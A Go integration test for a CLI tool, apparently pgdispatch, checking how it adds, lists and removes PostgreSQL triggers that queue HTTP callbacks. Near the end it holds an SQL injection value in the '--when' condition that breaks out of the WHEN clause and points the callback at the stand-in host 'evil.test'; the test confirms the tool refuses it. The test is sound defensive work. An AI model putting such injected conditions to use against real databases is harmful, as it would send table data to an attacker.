package main

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/stretchr/testify/require"

	"github.com/pgdispatch/pgdispatch/internal/testkit/pgtest"
)

// triggers add, list and remove through the binary, as a user runs them.
func TestTriggersCommand(t *testing.T) {
	t.Parallel()
	schema := pgtest.Schema(t)
	table := pgx.Identifier{schema, "orders"}.Sanitize()
	ctx := context.Background()
	pool := pgtest.Pool(t)
	_, err := pool.Exec(ctx, "CREATE TABLE "+table+" (id int PRIMARY KEY, status text)")
	require.NoError(t, err)
	run := func(args ...string) (string, string, int) {
		p := start(t, dbEnv(schema), append([]string{"triggers"}, args...)...)
		code := p.wait(t, 30*time.Second)
		return strings.TrimSpace(p.stdout.String()), p.stderr.String(), code
	}

	out, stderr, code := run("add", "--table", table, "--on", "insert,update", "--kind", "http_callback",
		"--payload", `{"url": "https://example.test/orders"}`, "--when", "NEW.status = 'paid'", "--name", "orders_paid")
	require.Equal(t, 0, code, stderr)
	require.Equal(t, "trigger orders_paid added on "+table, out)
	out, _, code = run("add", "--table", table, "--kind", "http_callback", "--name", "orders_paid")
	require.Equal(t, 0, code)
	require.Contains(t, out, "exists already: nothing changed")

	out, _, code = run("list", "--json")
	require.Equal(t, 0, code)
	var list []struct {
		Name, Table, Kind, When string
		Events                  []string
	}
	require.NoError(t, json.Unmarshal([]byte(out), &list), out)
	require.Len(t, list, 1)
	require.Equal(t, "orders_paid", list[0].Name)
	require.Equal(t, []string{"insert", "update"}, list[0].Events)
	require.Equal(t, "NEW.status = 'paid'", list[0].When)
	out, _, code = run("list")
	require.Equal(t, 0, code)
	require.Contains(t, out, "orders_paid")

	_, err = pool.Exec(ctx, "INSERT INTO "+table+" VALUES (1, 'paid'), (2, 'new')")
	require.NoError(t, err)
	var url, status string
	require.NoError(t, pool.QueryRow(ctx, "SELECT payload->>'url', payload->'data'->'new'->>'status' FROM "+
		pgx.Identifier{schema, "jobs"}.Sanitize()).Scan(&url, &status))
	require.Equal(t, []string{"https://example.test/orders", "paid"}, []string{url, status})

	out, _, code = run("remove", "orders_paid")
	require.Equal(t, 0, code)
	require.Equal(t, "trigger orders_paid removed", out)
	_, stderr, code = run("remove", "orders_paid")
	require.Equal(t, 1, code)
	require.Contains(t, stderr, "no such pgdispatch trigger")
	// A condition that leaves its WHEN clause to give the trigger other
	// arguments than the recorded ones is refused.
	fn := pgx.Identifier{schema, "dispatch_event"}.Sanitize()
	_, stderr, code = run("add", "--table", table, "--kind", "http_callback", "--name", "hijack",
		"--when", `true) EXECUTE FUNCTION `+fn+`('http_callback', 'default', '{"url": "http://evil.test/"}', $q$`,
		"--payload", `{"url": "https://example.test/orders", "note": "$q$) --"}`)
	require.Equal(t, 1, code)
	require.Contains(t, stderr, "the trigger created is not the one recorded")
	out, _, code = run("list", "--json")
	require.Equal(t, 0, code)
	require.Equal(t, "[]", out)

	_, stderr, code = run("add", "--table", "nope.nothing", "--kind", "noop")
	require.Equal(t, 1, code)
	require.Contains(t, stderr, `schema "nope" does not exist`)
}
